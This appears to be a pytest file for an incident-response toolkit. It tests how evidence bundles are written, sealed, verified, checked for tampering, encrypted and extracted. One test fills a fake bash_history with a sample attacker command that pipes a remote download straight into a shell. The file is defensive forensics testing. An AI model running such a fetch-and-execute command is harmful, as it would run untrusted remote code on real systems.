"""Bundles on disk without a host: tar stream format, sealing, verification, tampering, extraction."""

from __future__ import annotations

import io
import json
import os
import subprocess
import tarfile

import pytest
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from ir_toolkit.errors import InputError, VerificationFailed
from ir_toolkit.triage import tarstream
from ir_toolkit.triage.bundle import (
    MANIFEST_FORMAT,
    BundleWriter,
    MemberMeta,
    host_dir,
    list_collections,
    new_collection_id,
)
from ir_toolkit.triage.extract import extract_collection
from ir_toolkit.triage.status import host_evidence_status
from ir_toolkit.triage.verify import verify_case, verify_collection


def make_bundle(case: str, files: dict[str, bytes], *, tenant: str = "globex", host: str = "web01",
                recipients=None, mtime: float = 1_600_000_000.5):
    writer = BundleWriter(host_dir(case, tenant, host) / new_collection_id(), recipients)
    entries = []
    for path, data in files.items():
        digest = writer.add_bytes("files" + path, data, MemberMeta(mtime=mtime, mode=0o4755))
        entries.append({"source_path": path, "archive_path": "files" + path, "size": len(data),
                        "sha256_host": digest, "sha256_received": digest, "status": "collected"})
    manifest = {"format": MANIFEST_FORMAT, "case": case, "tenant": tenant, "host": host, "files": entries,
                "outputs": [], "status": "complete"}
    counts = {"collected": len(files), "hash_mismatch": 0}
    collection = writer.finish(manifest, b'{"event": "test"}\n',
                               {"case": case, "tenant": tenant, "host": host, "status": "complete",
                                "counts": counts, "profile": "test"})
    return collection


def test_tarstream_roundtrip_and_gnu_tar_reads_it(tmp_path):
    out = io.BytesIO()
    writer = tarstream.TarWriter(out)
    long_name = "files/" + "deep/" * 40 + "name with spaces é.txt"
    payloads = {"a.txt": b"", "b.bin": os.urandom(513), long_name: os.urandom(70_000)}
    for name, data in payloads.items():
        info = tarfile.TarInfo(name)
        info.size, info.mtime, info.mode = len(data), 1_600_000_000.25, 0o640
        writer.add(info, io.BytesIO(data))
    writer.close()
    blob = out.getvalue()
    assert len(blob) % tarstream.RECORD == 0
    got = {info.name: (reader.read(), info.mtime) for info, reader in tarstream.iter_members(io.BytesIO(blob))}
    assert {k: v[0] for k, v in got.items()} == payloads
    assert got["a.txt"][1] == 1_600_000_000.25
    path = tmp_path / "t.tar"
    path.write_bytes(blob)
    listing = subprocess.run(["tar", "-tf", str(path)], capture_output=True, text=True, check=True).stdout
    assert long_name in listing.splitlines()
    with tarfile.open(path) as std:
        assert std.extractfile(long_name).read() == payloads[long_name]


def test_tarstream_reads_gnu_tar_posix_output(tmp_path):
    src = tmp_path / "src"
    (src / ("x" * 120)).mkdir(parents=True)
    target = src / ("x" * 120) / "f"
    target.write_bytes(b"data")
    os.utime(target, (1_600_000_000.123456789, 1_600_000_000.123456789))
    blob = subprocess.run(["tar", "--format=posix", "-C", str(src), "-cf", "-", "x" * 120 + "/f"],
                          capture_output=True, check=True).stdout
    members = [(i.name, r.read(), i.mtime) for i, r in tarstream.iter_members(io.BytesIO(blob))]
    assert members[0][0] == "x" * 120 + "/f" and members[0][1] == b"data"
    assert abs(members[0][2] - 1_600_000_000.123456789) < 1e-6


def test_tarstream_truncated_and_corrupt(tmp_path):
    out = io.BytesIO()
    writer = tarstream.TarWriter(out)
    info = tarfile.TarInfo("f")
    info.size = 4000
    writer.add(info, io.BytesIO(os.urandom(4000)))
    writer.close()
    blob = out.getvalue()
    with pytest.raises(tarstream.TarFormatError):
        for _, reader in tarstream.iter_members(io.BytesIO(blob[:2000])):
            reader.read()
    bad = bytearray(blob)
    bad[100] ^= 0xFF  # inside the header: checksum no longer matches
    with pytest.raises(tarstream.TarFormatError, match="bad tar header"):
        list(tarstream.iter_members(io.BytesIO(bytes(bad))))
    with pytest.raises(tarstream.ShortRead):
        tarstream.TarWriter(io.BytesIO()).add(info, io.BytesIO(b"short"))


def test_sealed_bundle_verifies(irkit_home):
    coll = make_bundle("C1", {"/etc/passwd": b"root:x:0:0\n", "/tmp/dropper": os.urandom(5000)})
    assert not (coll.path.parent / (coll.id + ".partial")).exists()
    seal = coll.seal()
    assert seal["bundle_file"] == "bundle.tar" and not seal["encrypted"]
    (report,) = verify_case("C1", custody=False)
    assert report.ok and report.contents_checked and report.members_checked == 4
    assert report.custody == "skipped"
    (report,) = verify_case("C1")          # without an audit log the custody cannot be confirmed
    assert not report.ok and "no audit log for this case" in report.problems[0]


def _flip_in_member(path, member_name):
    """Change one byte inside the data of one member of a plain bundle."""
    data = bytearray(path.read_bytes())
    with tarfile.open(path) as std:
        offset = std.getmember(member_name).offset_data
    data[offset + 3] ^= 0x20
    path.write_bytes(bytes(data))


def test_one_changed_byte_is_named(irkit_home):
    coll = make_bundle("C1", {"/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\n", "/etc/group": b"root:x:0:\n"})
    _flip_in_member(coll.bundle_path, "files/etc/passwd")
    report = verify_collection("C1", coll, records=None)
    assert not report.ok
    assert any(p.startswith("files/etc/passwd (source /etc/passwd): content changed") for p in report.problems)
    assert not any("files/etc/group" in p for p in report.problems)
    assert any("bundle.tar: SHA-256" in p and "differs from the seal" in p for p in report.problems)


def test_manifest_and_seal_tampering(irkit_home):
    coll = make_bundle("C1", {"/etc/hosts": b"127.0.0.1 localhost\n"})
    manifest = coll.path / "manifest.json"
    data = json.loads(manifest.read_text())
    data["files"][0]["sha256_received"] = "0" * 64
    manifest.write_text(json.dumps(data))
    report = verify_collection("C1", coll, records=None)
    assert any("manifest.json: SHA-256 differs from the seal" in p for p in report.problems)
    assert any("beside the bundle differs from the one inside" in p for p in report.problems)


def test_custody_records_are_checked(irkit_home):
    coll = make_bundle("C1", {"/etc/hosts": b"x"})
    seal = coll.seal()
    good = {"seq": 7, "action": "evidence.collected", "tenant": "globex", "host": "web01",
            "params": {"collection_id": coll.id, "bundle_sha256": seal["bundle_sha256"],
                       "manifest_sha256": seal["manifest_sha256"]}}
    assert verify_collection("C1", coll, records=[good]).custody == "recorded"
    missing = verify_collection("C1", coll, records=[])
    assert missing.custody == "missing" and "no chain-of-custody record" in missing.problems[0]
    bad = {**good, "params": {**good["params"], "bundle_sha256": "f" * 64}}
    report = verify_collection("C1", coll, records=[bad])
    assert report.custody == "mismatch" and "differs from the audit log (seq 7)" in report.problems[0]
    assert host_evidence_status("C1", "globex", "web01", records=[good]).ready
    status = host_evidence_status("C1", "globex", "web01", records=[])
    assert not status.ready and "no chain-of-custody record" in status.reason
    assert not host_evidence_status("C1", "globex", "web02", records=[good]).ready
    _flip_in_member(coll.bundle_path, "files/etc/hosts")
    altered = host_evidence_status("C1", "globex", "web01", records=[good])
    assert not altered.ready and "does not match its seal" in altered.reason


def test_encrypted_bundle(irkit_home, tmp_path):
    reader_key, other = X25519PrivateKey.generate(), X25519PrivateKey.generate()
    secret = b"attacker command line: curl http://203.0.113.66/x | sh\n"
    coll = make_bundle("C2", {"/root/.bash_history": secret}, recipients=[reader_key.public_key()])
    assert coll.encrypted and not (coll.path / "manifest.json").exists()
    assert secret not in coll.bundle_path.read_bytes()
    no_key = verify_collection("C2", coll, records=None)
    assert no_key.ok and not no_key.contents_checked
    assert any("only its outer SHA-256" in w for w in no_key.warnings)
    with_key = verify_collection("C2", coll, identities=[reader_key], records=None)
    assert with_key.ok and with_key.contents_checked and with_key.members_checked == 3
    wrong = verify_collection("C2", coll, identities=[other], records=None)
    assert not wrong.contents_checked and any("none of the given keys" in w for w in wrong.warnings)
    with pytest.raises(InputError, match="none of the given keys"):
        extract_collection(coll, tmp_path / "out-wrong", identities=[other])
    result = extract_collection(coll, tmp_path / "out", identities=[reader_key])
    assert not result.problems
    extracted = tmp_path / "out" / "files" / "root" / ".bash_history"
    assert extracted.read_bytes() == secret
    assert int(extracted.stat().st_mtime) == 1_600_000_000
    assert not extracted.stat().st_mode & 0o7000  # setuid dropped on extraction
    data = bytearray(coll.bundle_path.read_bytes())
    data[-100] ^= 1
    coll.bundle_path.write_bytes(bytes(data))
    tampered = verify_collection("C2", coll, identities=[reader_key], records=None)
    assert any("failed authentication" in p for p in tampered.problems)
    with pytest.raises(VerificationFailed, match="failed authentication"):
        extract_collection(coll, tmp_path / "out2", identities=[reader_key])


def test_extract_refuses_non_empty_directory(irkit_home, tmp_path):
    coll = make_bundle("C1", {"/etc/hosts": b"x"})
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "f").write_text("x")
    with pytest.raises(InputError, match="not an empty directory"):
        extract_collection(coll, tmp_path / "busy")


def test_partial_collections_are_not_listed_as_sealed(irkit_home):
    writer = BundleWriter(host_dir("C3", "globex", "web01") / new_collection_id())
    writer.add_bytes("files/etc/x", b"x")
    writer.abort()
    assert list_collections("C3") == []
    assert [c.id.endswith(".partial") for c in list_collections("C3", include_partial=True)] == [True]
    with pytest.raises(InputError, match="no evidence bundles"):
        verify_case("C3")
